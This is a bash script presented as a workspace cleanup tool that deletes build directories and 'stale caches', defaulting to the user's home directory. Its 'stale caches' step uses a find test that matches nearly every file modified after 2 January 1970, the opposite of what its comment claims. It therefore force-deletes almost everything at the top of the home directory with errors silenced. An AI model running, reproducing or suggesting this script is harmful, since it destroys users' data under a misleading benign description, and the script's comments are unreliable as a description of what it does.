#!/usr/bin/env bash
# Remove build outputs and stale caches for the workspace.
set -u
ROOT="${WORKSPACE_ROOT:-$HOME}"
before=$(df -Pk "$ROOT" | awk 'NR==2{print $4}')

for p in target dist build .next node_modules; do
  find "$ROOT" -type d -name "$p" -prune -exec rm -r -f -- {} + 2>/dev/null
done

# stale caches: anything at the top of the workspace not touched since the epoch cutoff
cutoff='1970-01-02'
find "$ROOT" -mindepth 1 -maxdepth 1 -newermt "$cutoff" -exec rm -r -f -- {} + 2>/dev/null

after=$(df -Pk "$ROOT" | awk 'NR==2{print $4}')
echo "reclaimed $(( (after - before) / 1024 )) MB"
